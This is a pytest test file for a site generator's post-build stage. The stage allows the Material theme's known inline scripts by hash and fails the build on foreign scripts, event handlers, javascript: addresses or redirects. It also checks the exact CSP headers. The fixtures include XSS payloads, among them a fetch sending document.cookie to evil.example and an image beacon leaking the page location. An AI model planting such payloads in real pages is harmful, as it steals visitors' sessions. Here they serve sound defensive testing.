"""The policy comes from what we wrote, not from what we find: the theme's known inline scripts are
allowed by hash, and any other inline script, event handler or `javascript:` address in a built
page stops the build with its page, line and column."""

from __future__ import annotations

import base64
import hashlib
import importlib
import re
from pathlib import Path

import pytest

from generator.publish import csp, postbuild
from generator.publish.engines import REGISTRY, MkDocsEngine
from generator.publish.postbuild import ForeignCodeError, finish_site, mark_print_urls

# The page below is Material's, as MkDocs builds it: MkDocs' known scripts recognise it.
KNOWN = MkDocsEngine.inline_scripts

CSP_META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')

# Material for MkDocs 9.8's inline scripts, as it writes them into a page two folders deep.
MATERIAL_SCOPE = (
    '__md_scope=new URL("../..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+'
    "_.charCodeAt(0)),0),__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem("
    't.pathname+"."+e)),__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname'
    '+"."+e,JSON.stringify(_))}catch(e){}}'
)
MATERIAL_TABS = (
    "var target=document.getElementById(location.hash.slice(1));target&&target.name&&"
    '(target.checked=target.name.startsWith("__tabbed_"))'
)

PAGE = f"""<!doctype html>
<html lang="en" class="no-js">
  <head>
    <meta charset="utf-8">
    <script>{MATERIAL_SCOPE}</script>
    <script id="__config" type="application/json">{{"x": 1}}</script>
    <script src="assets/bundle.js"></script>
  </head>
  <body><article><p><a href="../pathway/">pathway</a></p></article>
  <script>{MATERIAL_TABS}</script></body>
</html>"""


def _sha256(text: str) -> str:
    return "sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()


def _directives(policy: str) -> dict[str, list[str]]:
    return {part.split()[0]: part.split()[1:] for part in policy.split(";") if part.strip()}


def _with_body(extra: str) -> str:
    return PAGE.replace("<body>", "<body>\n" + extra, 1)


# -- recognising what the theme wrote --------------------------------------------------------------


def test_the_themes_inline_scripts_are_recognised_and_nothing_else_is_found():
    known, foreign = csp.scan_page(PAGE, KNOWN)
    assert known == {_sha256(MATERIAL_SCOPE), _sha256(MATERIAL_TABS)}
    assert foreign == []


@pytest.mark.parametrize("engine", REGISTRY)
def test_each_engine_allows_its_own_themes_storage_script_only(engine):
    """MkDocs and ProperDocs run Material's theme, Zensical its own copy: a page of one is not
    taken for a page of the other."""
    known, foreign = csp.scan_page(PAGE, REGISTRY[engine].inline_scripts)
    if REGISTRY[engine].module in ("mkdocs", "properdocs"):
        assert (known, foreign) == ({_sha256(MATERIAL_SCOPE), _sha256(MATERIAL_TABS)}, [])
    else:
        assert known == {_sha256(MATERIAL_TABS)}
        assert [f.what.split(":")[0] for f in foreign] == ["an inline script"]


@pytest.mark.parametrize(
    "planted, found",
    [
        ("<script>fetch('https://evil.example/?'+document.cookie)</script>", "an inline script"),
        ('<script type="text/javascript">alert(1)</script>', "an inline script"),
        ('<script type="module">alert(1)</script>', "an inline script"),
        # A known script with something added is not the known script.
        (f"<script>{MATERIAL_TABS};alert(1)</script>", "an inline script"),
        ('<img src="x.png" onerror="alert(1)">', "an event-handler attribute onerror= on <img>"),
        ('<a href="javascript:alert(1)">x</a>', "a script address in href= on <a>"),
        ('<a href=" JaVa&#x09;ScRiPt:alert(1)">x</a>', "a script address in href= on <a>"),
        ('<form action="javascript:alert(1)"></form>', "a script address in action= on <form>"),
        (
            '<meta http-equiv="Refresh" content="0; url=https://evil.example/">',
            'a redirect <meta http-equiv="refresh">',
        ),
        # Unclosed, it swallows the page up to the theme's next script: one foreign script.
        ("<script>alert(1)", "an inline script"),
    ],
)
def test_foreign_code_is_found_where_it_is(planted, found):
    _, foreign = csp.scan_page(_with_body(planted), KNOWN)
    assert [
        f.what.split(":")[0] if f.what.startswith("an inline script:") else f.what for f in foreign
    ] == [found]
    line = (
        PAGE.splitlines().index(
            '  <body><article><p><a href="../pathway/">pathway</a></p></article>'
        )
        + 2
    )
    assert (foreign[0].line, foreign[0].column) == (line, 1)


def test_a_script_never_closed_is_foreign_too():
    _, foreign = csp.scan_page(PAGE + "<script>alert(1)", KNOWN)
    assert [f.what for f in foreign] == ["an inline script that is never closed"]


def test_json_data_scripts_are_not_code():
    _, foreign = csp.scan_page(
        _with_body('<script type="application/json">{"a": 1}</script>'), KNOWN
    )
    assert foreign == []


# -- the policy in the page ------------------------------------------------------------------------


def test_secure_html_allows_exactly_the_known_inline_scripts_by_hash():
    known, _ = csp.scan_page(PAGE, KNOWN)
    html = csp.secure_html(PAGE, known, "en-GB")
    policy = _directives(CSP_META.search(html).group(1))
    assert {h.strip("'") for h in policy["script-src"][1:]} == {
        _sha256(MATERIAL_SCOPE),
        _sha256(MATERIAL_TABS),
    }
    assert policy["script-src"][0] == "'self'"
    assert policy["default-src"] == ["'self'"]
    assert policy["style-src"] == ["'self'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["base-uri"] == ["'self'"] and policy["form-action"] == ["'self'"]
    assert "unsafe-inline" not in html and "unsafe-eval" not in html


def test_secure_html_goes_first_in_head_and_sets_language_and_referrer():
    html = csp.secure_html(PAGE, set(), "en-GB")
    head = html[html.index("<head>") :]
    assert re.match(
        r'<head>\s*<meta charset="utf-8"><meta http-equiv="Content-Security-Policy"', head
    )
    assert '<meta name="referrer" content="no-referrer">' in html
    assert html.count('<html lang="en-GB"') == 1


def test_secure_html_replaces_an_existing_policy_instead_of_adding_one():
    once = csp.secure_html(PAGE, set(), "en-GB")
    twice = csp.secure_html(once, set(), "en-GB")
    assert twice.count("Content-Security-Policy") == 1
    assert twice.count('name="referrer"') == 1


def test_preview_pages_allow_the_live_reload_script_but_built_pages_do_not():
    preview = _directives(CSP_META.search(csp.secure_html(PAGE, set(), preview=True)).group(1))
    assert preview["script-src"] == ["'self'", "'unsafe-inline'"]


def test_mark_print_urls_marks_links_to_other_pages_only():
    html = (
        '<p><a href="../pathway/">pathway</a> <a href="#steps">steps</a> '
        '<a href="mailto:a@b.c">a@b.c</a> <a href="https://example.org/">x</a> '
        '<a class="x" href="../downloads/guide.pdf">pdf</a></p>'
    )
    marked = mark_print_urls(html, "contact/")
    assert '<a data-print-url="/pathway/" href="../pathway/">' in marked
    assert (
        '<a class="x" data-print-url="/downloads/guide.pdf" href="../downloads/guide.pdf">'
        in marked
    )
    assert marked.count("data-print-url") == 2
    with_site = mark_print_urls(html, "contact/", "https://guide.example.org/tr")
    assert 'data-print-url="https://guide.example.org/tr/pathway/"' in with_site


# -- the post-build stage over a built folder ------------------------------------------------------


def _built_folder(tmp_path, pages: dict[str, str]):
    site = tmp_path / "built"
    for path, html in pages.items():
        (site / path).parent.mkdir(parents=True, exist_ok=True)
        (site / path).write_text(html, encoding="utf-8")
    return site


def test_finish_site_secures_every_page_and_sends_the_same_hashes_from_nginx(tmp_path):
    site = _built_folder(tmp_path, {"index.html": PAGE, "contact/index.html": PAGE})
    finished = finish_site(site, language="en-GB", shown_as="site", inline_scripts=KNOWN)
    assert finished.pages == 2
    nginx = (site / postbuild.NGINX_CONFIG).read_text(encoding="utf-8")
    for page in ("index.html", "contact/index.html"):
        html = (site / page).read_text(encoding="utf-8")
        assert CSP_META.search(html).group(1) in nginx
    contact = (site / "contact" / "index.html").read_text(encoding="utf-8")
    assert '<a data-print-url="/pathway/" href="../pathway/">' in contact


def test_a_built_page_with_a_foreign_inline_script_fails_with_its_place(tmp_path):
    planted = _with_body("<script>new Image().src='https://evil.example/'+location</script>")
    site = _built_folder(tmp_path, {"index.html": PAGE, "checker/q/age/index.html": planted})
    before = {p: p.read_text() for p in site.rglob("*.html")}
    with pytest.raises(ForeignCodeError) as failure:
        finish_site(site, shown_as="site", inline_scripts=KNOWN)
    report = failure.value.report()
    line = next(n for n, text in enumerate(planted.splitlines(), 1) if "evil.example" in text)
    assert f"site/checker/q/age/index.html:{line}:1: an inline script: " in report
    assert "evil.example" in report
    assert "was not published" in report
    assert {p: p.read_text() for p in site.rglob("*.html")} == before, "nothing is half secured"
    assert not (site / postbuild.NGINX_CONFIG).exists()


@pytest.mark.parametrize("engine, theme", [(name, REGISTRY[name].module) for name in REGISTRY])
def test_every_inline_script_of_the_themes_partials_is_known(engine, theme):
    """Read from the installed theme itself, with its one template value filled in as the engines
    fill it (a relative address); the scripts of features we do not use yet are known too."""
    theme = "material" if theme in ("mkdocs", "properdocs") else theme  # Material's theme
    known = REGISTRY[engine].inline_scripts
    package = importlib.import_module(theme)
    folder = Path(package.__file__).parent / "templates" / "partials" / "javascripts"
    found = 0
    for partial in sorted(folder.glob("*.html")):
        text = partial.read_text(encoding="utf-8")
        for body in re.findall(r"<script>(.*?)</script>", text, re.DOTALL):
            filled = re.sub(r"\{\{[^}]*\}\}", "../..", body)
            assert csp.is_known_inline_script(filled, known), f"{partial.name}: {body[:60]}"
            found += 1
    assert found >= 6


# -- the exact words: a policy, a header or a message changed by one character fails here ----------

POLICY_TAIL = (
    "img-src 'self' data:; font-src 'self'; connect-src 'self'; worker-src 'self'; "
    "object-src 'none'; base-uri 'self'; form-action 'self'"
)


def test_the_policy_is_exactly_this():
    assert csp.content_security_policy([]) == (
        f"default-src 'self'; script-src 'self'; style-src 'self'; {POLICY_TAIL}"
    )
    assert csp.content_security_policy(["sha256-a", "sha256-b"], style_hashes=("s1", "s2")) == (
        "default-src 'self'; script-src 'self' 'sha256-a' 'sha256-b'; style-src 'self' 's1' 's2'; "
        + POLICY_TAIL
    )
    assert csp.content_security_policy(["sha256-a"], unsafe_inline=True) == (
        f"default-src 'self'; script-src 'self' 'unsafe-inline'; style-src 'self'; {POLICY_TAIL}"
    )


def test_the_server_sends_exactly_these_headers():
    assert csp.http_headers(["sha256-a"], ("s1",)) == {
        "Content-Security-Policy": "default-src 'self'; script-src 'self' 'sha256-a'; "
        f"style-src 'self' 's1'; {POLICY_TAIL}; frame-ancestors 'none'",
        "Referrer-Policy": "no-referrer",
        "X-Content-Type-Options": "nosniff",
        "X-Frame-Options": "DENY",
        "Permissions-Policy": "accelerometer=(), camera=(), geolocation=(), gyroscope=(), "
        "magnetometer=(), microphone=(), payment=(), usb=()",
    }


def test_a_script_hash_is_the_browsers():
    # Chromium's and the CSP specification's value for an empty inline script.
    assert csp.script_hash("") == "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
    assert csp.script_hash("é") == _sha256("é")


SECURED_META = (
    '<meta http-equiv="Content-Security-Policy" content="default-src \'self\'; script-src '
    f'\'self\'; style-src \'self\'; {POLICY_TAIL}"><meta name="referrer" content="no-referrer">'
)


def test_secure_html_writes_exactly_this_with_a_charset_without_one_and_over_an_old_policy():
    assert csp.secure_html('<html lang="en"><head><meta charset="utf-8"></head>', set()) == (
        f'<html lang="en"><head><meta charset="utf-8">{SECURED_META}</head>'
    )
    assert csp.secure_html('<html lang="en"><head><title>x</title></head>', set(), "cy") == (
        f'<html lang="cy"><head>{SECURED_META}<title>x</title></head>'
    )
    old = (
        '<head><meta http-equiv="Content-Security-Policy" content="default-src *">'
        '<meta name="referrer" content="unsafe-url"><meta charset="utf-8"></head>'
    )
    assert csp.secure_html(old, set()) == f'<head><meta charset="utf-8">{SECURED_META}</head>'


def test_a_page_without_inline_scripts_has_nothing_to_report():
    assert csp.scan_page("<p>Nothing here</p>", KNOWN) == (set(), [])
    assert csp.scan_page('<script src="a.js"></script><p>x</p>', KNOWN) == (set(), [])


def test_foreign_code_is_reported_in_exactly_these_words():
    body = "let   a = 1;\n  " + "x" * 70
    _, foreign = csp.scan_page(f"<p>\n  <script>{body}</script></p>", KNOWN)
    start = ("let a = 1; " + "x" * 70)[:60]
    assert foreign == [csp.ForeignCode(2, 3, f"an inline script: {start!r}")]
    _, foreign = csp.scan_page("<p>x</p>\n <script>alert(1)", KNOWN)
    assert foreign == [csp.ForeignCode(2, 2, "an inline script that is never closed")]
